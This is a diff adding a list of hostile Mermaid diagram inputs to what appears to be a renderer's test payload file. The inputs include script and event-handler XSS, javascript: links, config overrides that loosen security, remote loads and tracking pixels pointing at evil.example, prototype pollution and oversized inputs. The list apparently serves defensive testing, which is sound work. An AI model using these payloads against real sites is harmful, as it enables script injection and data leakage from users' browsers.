@@ -23,3 +23,26 @@ export const payloads = [
   ...wrap.flatMap((how) => base.map(how)),
   "safe \u202Egnp.exe\u202C", "zero\u200Bwidth", "soft\u00ADhyphen", "tag\u{E0041}character", "bidi\u2066isolate\u2069", "bom\uFEFFinside", "\u0008backspace", "bell\u0007",
 ];
+
+/** The same for texts that are drawn as diagrams. */
+export const diagrams = [
+  `flowchart TD\n  A["<img src=x onerror='${call}'>"] --> B["<script>${call}</script>"]`,
+  `flowchart TD\n  A --> B\n  click A "javascript:${call}"\n  click B "http://evil.example/" _blank`,
+  `flowchart TD\n  A --> B\n  click A call eval("${call}")`,
+  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src='http://evil.example/x.png' onerror='${call}'>"]`,
+  `%%{init: {"themeCSS": "@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }"}}%%\nflowchart TD\n  A --> B`,
+  `%%{init: {"fontFamily": "x; } * { background: url(http://evil.example/z) } y {"}}%%\nflowchart TD\n  A --> B`,
+  `%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart TD\n  A --> B`,
+  `---\nconfig:\n  securityLevel: loose\n---\nflowchart TD\n  A["<iframe srcdoc='<script>${call}</script>'>"]`,
+  `flowchart TD\n  A@{ img: "http://evil.example/pixel.png", label: "x" } --> B`,
+  `flowchart TD\n  A --> B\n  style A fill:url(http://evil.example/fill)\n  classDef c background:url(http://evil.example/c)\n  class B c`,
+  `sequenceDiagram\n  Alice->>Bob: <svg onload=${call}>\n  links Alice: {"x": "javascript:${call}"}`,
+  `classDiagram\n  class A["<img src=x onerror=${call}>"]\n  link A "javascript:${call}"`,
+  `pie title <script>${call}</script>\n  "<img src=x onerror=${call}>" : 1`,
+  `gantt\n  title x\n  section <script>${call}</script>\n  a :a1, 2024-01-01, 1d\n  click a1 href "javascript:${call}"`,
+  `stateDiagram-v2\n  [*] --> A: </style><script>${call}</script>`,
+  `flowchart TD\n${Array.from({ length: 300 }, (_, at) => `  subgraph s${at}`).join("\n")}\n  A --> B\n${"  end\n".repeat(300)}`,
+  `flowchart TD\n${Array.from({ length: 2_000 }, (_, at) => `  n${at} --> n${(at * 7) % 2_000}`).join("\n")}`,
+  `flowchart TD\n  A["${"x".repeat(60_000)}"]`,
+  `no diagram at all`,
+];
